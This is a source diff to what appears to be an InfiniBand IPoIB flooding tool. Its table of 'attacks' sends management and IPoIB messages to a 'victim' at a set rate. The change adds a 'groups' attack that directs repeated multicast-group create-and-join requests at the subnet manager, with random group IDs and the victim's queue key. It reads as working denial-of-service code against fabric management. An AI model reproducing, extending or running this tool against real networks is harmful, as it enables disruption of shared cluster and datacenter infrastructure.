@@ -27,6 +27,7 @@
 #include "wire/arp.hpp"
 #include "wire/encapsulation.hpp"
 #include "wire/mad.hpp"
+#include "wire/mc_member_record.hpp"
 #include "wire/neighbour_discovery.hpp"
 
 namespace ipoib {
@@ -124,6 +125,22 @@ class Messages {
     first.data2 = 6'500'000;
     return mad(to, wire::method::kGetTable, wire::attribute::kPathRecord, first, random());
   }
+  /// Requests to the SA to create a group, and to join it.
+  std::size_t groups(MutableBytes to) {
+    using Record = wire::McMemberRecord;
+    Record record;
+    record.mgid = Gid(0xff12'401b'ffff'0000, Guid(std::uint64_t{random()} << 32 | ++number_));
+    record.port_gid = own_.gid;
+    record.qkey = victim_.qkey;
+    record.pkey = kDefaultPKey;
+    record.join_state = Record::kFullMember;
+    const auto size =
+        mad(to, wire::method::kSet, wire::attribute::kMcMemberRecord, {}, random(),
+            Record::kMgid | Record::kPortGid | Record::kQKey | Record::kPKey |
+                Record::kTrafficClass | Record::kSl | Record::kFlowLabel | Record::kJoinState);
+    record.emit(to.subspan(wire::kSaHeaderSize));
+    return size;
+  }
 
  private:
   [[nodiscard]] std::uint32_t random() { return static_cast<std::uint32_t>(generator_()); }
@@ -160,7 +177,8 @@ class Messages {
     return wire::kEncapsulationSize + message.emit(to.subspan(wire::kEncapsulationSize));
   }
   static std::size_t mad(MutableBytes to, std::uint8_t method, std::uint16_t attribute,
-                         const wire::RmppHeader& rmpp, std::uint64_t tid) {
+                         const wire::RmppHeader& rmpp, std::uint64_t tid,
+                         std::uint64_t component_mask = 0) {
     wire::SaHeader header;
     header.mad.management_class = wire::mgmt_class::kSubnAdm;
     header.mad.class_version = 2;
@@ -168,6 +186,7 @@ class Messages {
     header.mad.attribute_id = attribute;
     header.mad.transaction_id = tid;
     header.rmpp = rmpp;
+    header.component_mask = component_mask;
     std::ranges::fill(to.first(wire::kMadSize), std::uint8_t{0});
     header.emit(to);
     return wire::kMadSize;
@@ -183,6 +202,7 @@ struct Attack {
   std::size_t (Messages::*make)(MutableBytes);
   bool is_mad = false;
   bool has_grh = false;
+  bool is_for_sa = false;  ///< not for the victim
 };
 
 const std::map<std::string_view, Attack> kAttacks = {
@@ -197,6 +217,7 @@ const std::map<std::string_view, Attack> kAttacks = {
     {"reports", {&Messages::reports, true}},
     {"sa-responses", {&Messages::sa_responses, true}},
     {"rmpp-openings", {&Messages::rmpp_openings, true}},
+    {"groups", {&Messages::groups, true, false, true}},
 };
 
 verbs::PortSnapshot active_port(const verbs::Device& device) {
@@ -219,7 +240,7 @@ void run(const Attack& attack, double rate, std::uint64_t count, const Victim& v
   queue_pair->register_pool(pool).value();
   queue_pair->configure({partition->index, attack.is_mad ? wire::kGsiQKey : victim.qkey}).value();
   AddressVector vector;
-  vector.dlid = victim.lid;
+  vector.dlid = attack.is_for_sa ? port.sm_lid : victim.lid;
   if (attack.has_grh) vector.global = GlobalRoute{.dgid = victim.gid, .hop_limit = kSubnetHopLimit};
   const auto handle = queue_pair->create_address_handle(vector).value();
   Messages messages(victim, {0, queue_pair->qpn(), port.gid});
